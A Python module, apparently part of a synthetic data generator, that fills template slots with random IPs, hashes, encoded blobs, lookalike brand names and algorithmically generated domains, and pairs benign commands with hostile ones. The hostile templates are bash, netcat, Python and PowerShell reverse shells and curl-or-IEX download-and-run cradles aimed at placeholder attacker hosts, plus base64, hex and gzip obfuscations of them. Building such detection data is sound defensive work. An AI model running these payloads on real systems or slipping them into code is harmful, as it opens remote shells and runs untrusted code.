"""Slots of the grammars that a list of words cannot fill: numbers, addresses, blobs, names made by machines."""

from __future__ import annotations

import base64
import gzip
import random
from collections.abc import Callable
from typing import Final
from urllib.parse import quote

LETTERS: Final = "abcdefghijklmnopqrstuvwxyz"
HEX: Final = "0123456789abcdef"
ALNUM: Final = LETTERS + "0123456789"
BASE64: Final = LETTERS.upper() + ALNUM + "+/"
_CONSONANTS: Final = "bcdfghjklmnpqrstvwxz"
_VOWELS: Final = "aeiouy"
_SWAPS: Final = {"o": "0", "l": "1", "i": "1", "e": "3", "a": "4", "s": "5", "m": "rn", "g": "q", "w": "vv"}

#: Fills a slot: with a random generator and the writer of templates.
Filler = Callable[[random.Random, Callable[[str], str]], str]


def draw(rng: random.Random, alphabet: str, least: int, most: int | None = None) -> str:
    """Return that many random characters."""
    return "".join(rng.choices(alphabet, k=rng.randint(least, most or least)))


def _ip(rng: random.Random, write: Callable[[str], str]) -> str:
    kind = rng.random()
    if kind < 0.4:
        return f"192.168.{rng.randint(0, 254)}.{rng.randint(1, 254)}"
    if kind < 0.6:
        return f"10.{rng.randint(0, 254)}.{rng.randint(0, 254)}.{rng.randint(1, 254)}"
    if kind < 0.7:
        return "127.0.0.1"
    return _public(rng, write)


def _public(rng: random.Random, write: Callable[[str], str]) -> str:
    return f"{rng.randint(11, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def _identifier(rng: random.Random, write: Callable[[str], str]) -> str:
    kind = rng.random()
    if kind < 0.3:
        return draw(rng, LETTERS, 1, 3)
    if kind < 0.6:
        return draw(rng, LETTERS, 4, 9)
    return draw(rng, ALNUM, 3, 10)


def _encoded(template: str, encoding: str = "utf-8") -> Filler:
    return lambda rng, write: base64.b64encode(write(template).encode(encoding)).decode()


def _hex(size: int) -> Filler:
    return lambda rng, write: draw(rng, HEX, size)


def _gzipped(rng: random.Random, write: Callable[[str], str]) -> str:
    return base64.b64encode(gzip.compress(write(_DOWNLOAD_PS).encode(), mtime=0)).decode()


def _escaped(rng: random.Random, write: Callable[[str], str]) -> str:
    octal = rng.random() < 0.3
    return "".join(f"\\{ord(c):03o}" if octal else f"\\x{ord(c):02x}" for c in write(_REVERSE) if ord(c) < 256)


def _lookalike(rng: random.Random, write: Callable[[str], str]) -> str:
    name = write("«brand»")
    places = [place for place, letter in enumerate(name) if letter in _SWAPS]
    if rng.random() < 0.7 and places:
        for place in sorted(rng.sample(places, rng.randint(1, min(2, len(places)))), reverse=True):
            name = name[:place] + _SWAPS[name[place]] + name[place + 1 :]
        return name
    place = rng.randrange(1, len(name) - 1)
    return name[:place] + rng.choice((name[place] * 2, name[place + 1] + name[place])) + name[place + 1 :]


def _letters(rng: random.Random, write: Callable[[str], str]) -> str:
    while True:
        name = draw(rng, LETTERS, 9, 24)
        if sum(letter in "aeiou" for letter in name) / len(name) < 0.35:
            return name


def _syllables(rng: random.Random, write: Callable[[str], str]) -> str:
    return "".join(rng.choice(_CONSONANTS) + rng.choice(_VOWELS) for _ in range(rng.randint(4, 8))) + draw(
        rng, LETTERS, 0, 2
    )


_REVERSE: Final = (
    "‹bash -i >& /dev/tcp/«evil_host»/«eport» 0>&1¦nc -e /bin/sh «evil_host» «eport»¦"
    "sh -i >& /dev/udp/«evil_host»/«eport» 0>&1¦/bin/bash -l > /dev/tcp/«evil_host»/«eport» 0<&1 2>&1›"
)
_DOWNLOAD: Final = (
    "‹curl -s «evilurl» | sh¦wget -qO- «evilurl»|bash¦cd /tmp; wget «evilurl» -O «rand»; chmod 777 «rand»; ./«rand»›"
)
_PYTHON: Final = (
    "import socket,os,pty;s=socket.socket();s.connect(('«evil_host»',«eport»));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
)
_DOWNLOAD_PS: Final = (
    "‹IEX (New-Object Net.WebClient).DownloadString('«evilurl»')¦iwr -useb «evilurl» | iex¦"
    "(New-Object System.Net.WebClient).DownloadFile('«evilurl»',\"$env:TEMP\\«rand».exe\"); "
    'Start-Process "$env:TEMP\\«rand».exe"›'
)
_REVERSE_PS: Final = (
    "$c=New-Object Net.Sockets.TCPClient('«evil_host»',«eport»);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};"
    "while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=[Text.Encoding]::ASCII.GetString($b,0,$i);"
    "$r=(iex $d 2>&1|Out-String);$o=[Text.Encoding]::ASCII.GetBytes($r);$s.Write($o,0,$o.Length)}"
)
_BENIGN: Final = (
    "‹cd «dir» && ./«word».sh¦echo «phrase»¦df -h | grep «word»¦systemctl restart «service»¦ls -l «dir» | wc -l¦"
    "export «UP»=«word»; ./«word».sh¦tar czf «word».tgz «dir»¦apt-get update && apt-get install -y «package»¦"
    "docker pull «image»¦#!/bin/sh⏎mkdir -p «dir»⏎cp «path» «dir»›"
)
_BENIGN_PS: Final = (
    "‹Get-Service «word» | Select Name,Status¦Get-ChildItem C:\\«word» -Recurse | Measure-Object¦"
    "Restart-Service «word» -Force¦$PSVersionTable.PSVersion | ConvertTo-Json¦Get-Process | Sort CPU | Select -Last 5¦"
    "Test-Path C:\\«word»\\«file»¦Write-Output '«phrase»'¦Install-Module «word» -Force -Scope CurrentUser›"
)

FILLERS: Final[dict[str, Filler]] = {
    "digit": lambda rng, write: str(rng.randint(1, 9)),
    "small": lambda rng, write: str(rng.randint(1, 99)),
    "int": lambda rng, write: str(rng.choice((rng.randint(0, 9), rng.randint(10, 999), rng.randint(1000, 99999)))),
    "port": lambda rng, write: str(rng.choice((80, 443, 8080, 3306, 5432, 6379, rng.randint(1024, 65535)))),
    "epoch": lambda rng, write: str(rng.randint(1_300_000_000, 1_800_000_000)),
    "digits8": lambda rng, write: draw(rng, "0123456789", 8),
    "digits16": lambda rng, write: draw(rng, "0123456789", 16),
    "letter": lambda rng, write: rng.choice(LETTERS),
    "ip": _ip,
    "pubip": _public,
    "lan": lambda rng, write: rng.choice(("192.168.1.", "10.0.0.", "172.16.", "10.10.1.", "192.168.0.")),
    "daship": lambda rng, write: _public(rng, write).replace(".", "-"),
    "revip": lambda rng, write: _ip(rng, write),
    "rand": _identifier,
    "rand4": lambda rng, write: draw(rng, LETTERS, 4),
    "uuid": lambda rng, write: "-".join(draw(rng, HEX, n) for n in (8, 4, 4, 4, 12)),
    "date": lambda rng, write: f"20{rng.randint(10, 29)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}",
    "time": lambda rng, write: f"{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}",
    "UP": lambda rng, write: draw(rng, LETTERS.upper(), 2, 8),
    "UP3": lambda rng, write: draw(rng, LETTERS.upper(), 3),
    "UP7": lambda rng, write: draw(rng, ALNUM.upper(), 7),
    "Word": lambda rng, write: write("«word»").capitalize(),
    "wallet": lambda rng, write: "4" + draw(rng, BASE64[:62], 94) if rng.random() < 0.7 else draw(rng, ALNUM, 8, 34),
    "longa": lambda rng, write: rng.choice("aAx1") * rng.randint(40, 400),
    "hexword": lambda rng, write: draw(rng, "0123456789", 0, 1).ljust(2, "7") + draw(rng, HEX, 6, 8),
    "base36_13": lambda rng, write: draw(rng, ALNUM, 13),
    "b64rand": lambda rng, write: draw(rng, BASE64, 16, 44) + rng.choice(("", "=", "==")),
    "b64blob": lambda rng, write: draw(rng, BASE64, 60, 300) + rng.choice(("", "=", "==")),
    "b64word": _encoded("«word»«word»"),
    "b64phrase": _encoded("«phrase» «phrase»"),
    "b64benign": _encoded(_BENIGN),
    "hexphrase": lambda rng, write: write("«phrase»").encode().hex(),
    "pctphrase": lambda rng, write: quote(write("«sentence»"), safe=""),
    "b64psbenign": _encoded(_BENIGN_PS, "utf-16-le"),
    "b64reverse": _encoded(_REVERSE),
    "b64pyrev": _encoded(_PYTHON),
    "b64download": _encoded(_DOWNLOAD),
    "hexreverse": lambda rng, write: write(_REVERSE).encode().hex(),
    "escreverse": _escaped,
    "b64psdownload": _encoded(_DOWNLOAD_PS, "utf-16-le"),
    "b64psreverse": _encoded(_REVERSE_PS, "utf-16-le"),
    "b64psplain": _encoded(_DOWNLOAD_PS),
    "b64gz": _gzipped,
    "base32long": lambda rng, write: draw(rng, LETTERS + "234567", 28, 62),
    "hexlong": lambda rng, write: draw(rng, HEX, 28, 60),
    "b64long": lambda rng, write: draw(rng, BASE64[:62] + "-", 28, 60),
    "lookalike": _lookalike,
    "dga_letters": _letters,
    "dga_alnum": lambda rng, write: draw(rng, ALNUM, 12, 28),
    "dga_syllables": _syllables,
    **{f"hex{size}": _hex(size) for size in (2, 4, 6, 8, 12, 16, 32)},
}
